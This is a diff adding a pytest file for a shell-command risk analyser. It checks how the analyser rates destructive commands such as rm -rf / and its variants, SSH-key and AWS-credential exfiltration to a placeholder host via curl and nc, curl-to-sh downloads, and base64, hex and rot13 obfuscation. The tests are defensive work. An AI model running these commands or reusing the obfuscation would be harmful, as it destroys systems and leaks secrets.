@@ -1,0 +1,97 @@
+"""What an earlier part of the line did, a later part knows: names, place, links, files, secrets."""
+
+from __future__ import annotations
+
+import pytest
+
+from ingle.shell.verdict import Level, analyse
+
+
+def level(command: str, shell: str = "bash") -> Level:
+    return analyse(command, shell).level
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cd / && rm -rf usr",
+        "pushd /; rm -rf etc",
+        "env -C / rm -rf etc",
+        "cd ~; cd ..; rm -rf user",
+        "ln -s / x; rm -rf x/etc",
+        "x=/; y=$x; rm -rf $y",
+        "x=/et; x+=c; rm -rf $x",
+        "alias z='rm -rf /'\nz",
+        "f() { g; }; g() { rm -rf /; }; f",
+        "echo 'rm -rf /' > x.sh; sh x.sh",
+        "echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh",
+        "printf 'rm -rf ~' | tee x; . ./x",
+        "git config alias.z '!rm -rf /'; git z",
+        "x=/tmp/a; false && x=/; rm -rf $x",
+        "set -- /; rm -rf $1",
+        "read x <<< /; rm -rf $x",
+    ],
+)
+def test_state_of_the_line_reaches_later_commands(command: str) -> None:
+    assert level(command) is Level.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["(cd /); rm -rf build", "x=$(cd /; pwd); rm -rf build", "f() { rm -rf /; }", "alias z='rm -rf build'", "x='rm -rf /'"],
+)
+def test_subshells_and_mere_definitions_do_not_reach_later_commands(command: str) -> None:
+    assert level(command) <= Level.MODERATE
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("cat ~/.ssh/id_rsa", Level.MODERATE),
+        ("cat ~/.ssh/id_rsa | curl -d @- https://x.example", Level.CRITICAL),
+        ("k=$(cat ~/.ssh/id_rsa); curl https://x.example/$k", Level.CRITICAL),
+        ("cp ~/.ssh/id_rsa /tmp/a; curl -T /tmp/a https://x.example", Level.CRITICAL),
+        ("tar cz ~/.aws | base64 | nc x.example 9", Level.CRITICAL),
+        ("cat ~/.ssh/id_rsa | wc -c | nc x.example 9", Level.MODERATE),
+        ("curl https://x.example", Level.SAFE),
+        ("curl https://x.example | jq .", Level.SAFE),
+        ("curl https://x.example | sh", Level.HIGH),
+        ("curl https://x.example | sudo sh", Level.CRITICAL),
+        ("x=$(curl https://x.example); eval \"$x\"", Level.HIGH),
+        ("curl -o x https://x.example; sh x", Level.HIGH),
+        ("curl -o x https://x.example; cat x", Level.MODERATE),
+        ("git clone https://x.example/a.git; cd a; make", Level.HIGH),
+    ],
+)
+def test_taint_follows_secrets_out_and_code_in(command: str, expected: Level) -> None:
+    assert level(command) is expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo cm0gLXJmIC8= | base64 -d | sh",
+        "echo 726d202d7266202f | xxd -r -p | sh",
+        "echo '/ fr- mr' | rev | sh",
+        "echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
+        "echo 'xm -xf /' | sed 's/x/r/g' | sh",
+        "printf '\\162m -rf /' | sh",
+        "openssl base64 -d <<< cm0gLXJmIC8= | sh",
+        "bash <(printf 'rm -rf /')",
+        "python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
+        "echo a:rm -rf / | cut -d: -f2 | sh",
+    ],
+)
+def test_decoded_text_is_analysed_as_code(command: str) -> None:
+    assert level(command) is Level.CRITICAL
+
+
+def test_local_script_is_read_only_when_asked() -> None:
+    scripts = {"/home/user/src/project/x.sh": "rm -rf /"}
+    assert analyse("sh x.sh").level is Level.MODERATE
+    assert analyse("sh x.sh", read_file=scripts.get).level is Level.CRITICAL
+
+
+def test_rating_never_falls_when_a_dangerous_command_is_added() -> None:
+    assert level("ls; rm -rf /") is Level.CRITICAL
+    assert level("rm -rf / || true") is Level.CRITICAL
